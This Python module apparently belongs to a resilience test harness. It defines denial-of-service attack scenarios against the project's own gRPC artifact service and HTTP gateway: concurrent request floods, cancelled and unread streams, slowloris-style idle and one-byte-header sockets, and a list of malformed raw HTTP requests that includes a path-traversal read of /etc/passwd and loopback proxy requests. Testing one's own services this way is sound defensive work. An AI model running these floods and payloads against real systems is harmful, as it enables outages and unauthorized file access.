"""Attacks by too many requests: floods of calls at the ports, and of requests at the gateway."""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, suppress
from hashlib import sha256
from socket import socket

import grpc
from support.raw_bytes import message

from attackers.attacker import Target, Victim, attacker
from attackers.calling import SOURCES, calling, connected, get, http
from attackers.strangers import ONE, RELEASE, hand_in, publish


def everywhere(target: Target, work: Callable[[Target, Victim, int], None], each: int = 2) -> None:
    """Do `work` `each` times at every victim, concurrently, until the others are done."""
    with ThreadPoolExecutor(each * len(target.victims)) as pool:
        for victim, number in itertools.product(target.victims, range(each)):
            pool.submit(work, target, victim, number)
        target.hold()


@attacker("a flood of names, and reads of it that are cancelled", "M2", by="identity")
def flooded_names(target: Target) -> None:
    """Three hundred versions of one name by one identity; then lookups, each cancelled immediately."""
    publish(target, ONE, [ONE.publish("flood/name@v0", RELEASE)])
    lines = [ONE.publish(f"flood/name@v{number}", RELEASE) for number in range(1, 300)]
    hand_in(target, [ONE.inception, *lines], RELEASE.objects, each=30, at=target.victims[:1])
    everywhere(target, _give_up)


def _give_up(target: Target, victim: Victim, number: int) -> None:
    with calling(target, victim, source=SOURCES[number % len(SOURCES)]) as caller:
        for _ in target.going_on():
            for call, request in (
                ("Resolve", message((1, "flood/"))),
                ("Search", message((1, "a"), (3, 50))),
                ("GetClaims", message((1, bytes.fromhex(target.known.artifacts[0])))),
            ):
                _begin_and_cancel(caller.channel, call, request)
            target.sent[victim.name] += 100
            if target.ended.wait(0.02):
                return


def _begin_and_cancel(channel: grpc.Channel, call: str, request: bytes) -> None:
    path = f"/comity.v1.ArtifactService/{call}"
    if call == "Search":
        one: grpc.UnaryUnaryMultiCallable[bytes, bytes] = channel.unary_unary(path)
        one.future(request, timeout=5).cancel()
    else:
        many: grpc.UnaryStreamMultiCallable[bytes, bytes] = channel.unary_stream(path)
        many(request, timeout=5).cancel()


@attacker("questions that hold huge sets of lines", "own", by="addresses")
def huge_held_sets(target: Target) -> None:
    """As many lines as a question may name, more than that, and salts and references of wrong lengths, repeatedly."""
    everywhere(target, _hold_on)


def _hold_on(target: Target, victim: Victim, number: int) -> None:
    artifact, salt = bytes.fromhex(target.known.artifacts[0]), bytes([number] * 16)
    sets = ((salt, bytes(768 * 8)), (salt, bytes(769 * 8)), (salt, bytes(9)), (salt[1:], b""), (salt, bytes(12_000)))
    with calling(target, victim, source=SOURCES[number % len(SOURCES)]) as caller:
        for at in target.going_on(60):
            one, lines = sets[at % len(sets)]
            held = message((1, one), (2, lines), (3, at % 2))
            caller.ask("GetClaims", (1, artifact), (3, held), patience=2)
            caller.ask("Resolve", (1, target.known.bound.partition("@")[0]), (5, held), patience=2)
            caller.ask("FindArtifact", (1, target.known.bound.partition("@")[0]), (5, held), patience=2)
            if target.ended.wait(0.02):
                return


@attacker("batches of objects, and artifacts, that are not there", "own", by="addresses")
def batches_of_nothing(target: Target) -> None:
    """As many objects as a batch may name, none of which is there, and names and authors that nobody has."""
    everywhere(target, _ask_for_nothing)


def _ask_for_nothing(target: Target, victim: Victim, number: int) -> None:
    name, there = target.known.bound.partition("@")[0], bytes.fromhex(target.known.files[0])
    with calling(target, victim, source=SOURCES[number % len(SOURCES)]) as caller:
        for at in target.going_on(60):
            nothing = [sha256(b"%d %d %d" % (number, at, each)).digest() for each in range(256)]
            objects = ((1, each) for each in (*nothing[:255], there))
            caller.ask("GetObjects", *objects, (2, 1), patience=2)
            authors = [(4, each) for each in nothing]
            caller.ask("FindArtifact", (1, f"{name}{at}"), *authors, patience=2)
            caller.ask("FindArtifact", (1, name), (2, f"v{at}"), (3, nothing[0]), *authors, patience=2)
            if target.ended.wait(0.02):
                return


@attacker("questions for all files, and for as many prefixes as one may have", "own", by="addresses")
def all_files(target: Target) -> None:
    """Few bits, which stand for all files, and a thousand prefixes of the longest kind; malformed ones between."""
    everywhere(target, _ask_for_files)


def _ask_for_files(target: Target, victim: Victim, number: int) -> None:
    with calling(target, victim, source=SOURCES[number % len(SOURCES)]) as caller:
        for at in target.going_on(60):
            most = range(at, at + 1_000)
            for bits, prefixes in ((0, (0,)), (10, range(1_000)), (32, most), (4, (9, 9)), (33, (1,))):
                caller.ask("FindFiles", (1, bits), *((2, prefix) for prefix in prefixes), patience=2)
            for after, head in ((0, bytes(32)), (at, bytes(32)), (0, b"")):
                caller.ask("ReadFileIndex", (1, after), (2, head), patience=2)
            caller.ask("GetConcerns", (1, sha256(b"%d" % at).digest()), patience=2)
            caller.ask("ListDescent", (1, at * at), (2, sha256(b"%d" % at).digest()), patience=2)
            if target.ended.wait(0.02):
                return


@attacker("calls at the open port at the highest rate", "own", by="addresses")
def open_port_flood(target: Target) -> None:
    everywhere(target, _ask_on)


def _ask_on(target: Target, victim: Victim, number: int) -> None:
    with calling(target, victim, source=SOURCES[number % len(SOURCES)]) as caller:
        for _ in target.going_on(60):
            caller.ask("ListLogs", patience=2)
            if target.ended.wait(0.01):
                return


@attacker("calls at the mutual port with the member's own certificate", "own", by="member")
def mutual_port_flood(target: Target) -> None:
    everywhere(target, _ask_as_member)


def _ask_as_member(target: Target, victim: Victim, number: int) -> None:
    with calling(target, victim, identity=target.member.identity) as caller:
        for _ in target.going_on(60):
            caller.ask("GetEntries", (1, victim.origin), (2, 0), (3, 65_536), patience=2)
            caller.ask("GetProceedings", patience=2)
            if target.ended.wait(0.02):
                return


@attacker("streams that are opened and not read", "own", by="addresses")
def unread_streams(target: Target) -> None:
    """Fifty answers begun at each victim, of which no message is read."""
    begun: list[Iterator[bytes]] = []
    with ExitStack() as stack:
        for victim, number in itertools.product(target.victims, range(4)):
            caller = stack.enter_context(calling(target, victim, source=SOURCES[number]))
            entries = message((1, victim.origin), (2, 0), (3, 65_536))
            for call, asked in (("GetEntries", entries), ("GetProceedings", b""), ("ListLogs", b"")) * 4:
                begun.append(caller.start(call, asked, 600))
        target.hold()


@attacker("files that a member reads and does not receive", "own", by="member")
def unread_files_of_a_member(target: Target) -> None:
    """As many reads at the mutual port as the member's certificate allows, of which no message is read."""
    begun: list[Iterator[bytes]] = []
    read = message((1, bytes.fromhex(target.known.files[0])), (3, 1 << 30))
    with ExitStack() as stack:
        for victim in target.victims:
            for _ in range(4):
                caller = stack.enter_context(calling(target, victim, identity=target.member.identity))
                begun += [caller.start("Read", read, 600) for _ in range(16)]
        target.hold()


REQUESTS = (
    b"GET / HTTP/1.1\r\nHost: x\r\n" + b"X: y\r\n" * 2_000 + b"\r\n",
    b"GET /" + b"a" * 60_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
    b"POST /tests/model HTTP/1.1\r\nHost: x\r\nContent-Length: 999999999999\r\n\r\n",
    b"POST /add-entries HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nffffffff\r\n",
    b"GET /%2e%2e/%2e%2e/etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET http://127.0.0.1:9/ HTTP/1.1\r\nHost: x\r\n\r\n",
    b"CONNECT 127.0.0.1:9 HTTP/1.1\r\nHost: x\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0" * 1_000,
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\xff" * 512,
    b"\xff" * 4_000,
)


@attacker("invalid requests at the gateway", "own", by="stranger", emits=lambda: REQUESTS)
def junk_requests(target: Target) -> None:
    for victim, request in itertools.product(target.victims, REQUESTS):
        http(target, victim, request, patience=2)


@attacker("pages of the gateway at the highest rate", "own", by="addresses")
def gateway_flood(target: Target) -> None:
    everywhere(target, _browse_on)


def _browse_on(target: Target, victim: Victim, number: int) -> None:
    name = target.known.bound.partition("@")[0]
    paths = (f"/api/models/{name}", "/api/models?search=a&limit=100", "/api/models/no/such", f"/{name}/resolve/main/x")
    for at in target.going_on(60):
        get(target, victim, paths[at % len(paths)])
        if target.ended.wait(0.01):
            return


@attacker("thousands of ranges in one request", "own", by="stranger")
def many_ranges(target: Target) -> None:
    name = target.known.bound.partition("@")[0]
    ranges = ",".join(f"{at}-{at}" for at in range(1_000))
    for victim in target.victims:
        request = f"GET /{name}/resolve/main/weights.bin HTTP/1.1\r\nHost: x\r\nRange: bytes={ranges}\r\n"
        http(target, victim, (request + "Connection: close\r\n\r\n").encode(), patience=3)


@attacker("answers of the gateway that are never read", "H5", by="addresses")
def unread_answers(target: Target) -> None:
    """Forty sockets at each gateway ask for a file repeatedly, and read nothing."""
    name = target.known.bound.partition("@")[0]
    request = f"GET /{name}/resolve/main/weights.bin HTTP/1.1\r\nHost: x\r\n\r\n".encode() * 20
    with Sockets() as held:
        for victim, number in itertools.product(target.victims, range(40)):
            held.open(target, victim, victim.gateway, request, SOURCES[number % len(SOURCES)])
        target.hold()


@attacker("silent sockets", "H6", by="addresses")
def idle_sockets(target: Target) -> None:
    with Sockets() as held:
        for victim, number in itertools.product(target.victims, range(64)):
            for address in (victim.gateway, victim.open, victim.mutual):
                held.open(target, victim, address, b"", SOURCES[number % len(SOURCES)])
        target.hold()


@attacker("request heads of one byte at a time", "H6", by="addresses")
def dribbled_heads(target: Target) -> None:
    with Sockets() as held:
        for victim, number in itertools.product(target.victims, range(32)):
            held.open(target, victim, victim.gateway, b"GET / HTTP/1.1\r\nHost: x\r\n", SOURCES[number % 4])
        target.ready.set()
        while not target.ended.wait(0.5):
            held.send(b"X: y\r\n")


class Sockets:
    """Sockets that are held until the block ends."""

    def __init__(self) -> None:
        self._stack = ExitStack()
        self._held: list[socket] = []

    def __enter__(self) -> Sockets:
        return self

    def open(
        self, target: Target, victim: Victim, address: str, request: bytes, source: str, *, tls: bool = False
    ) -> None:
        """Connect, and send `request`; a refused connection is skipped."""
        try:
            held = self._stack.enter_context(connected(address, source=source, patience=2, tls=tls))
            held.sendall(request)
            held.setblocking(False)
        except OSError:
            return
        target.sent[victim.name] += len(request)
        self._held.append(held)

    def send(self, data: bytes) -> None:
        for held in self._held:
            with suppress(OSError):
                held.send(data)

    def __exit__(self, *_: object) -> None:
        self._stack.close()
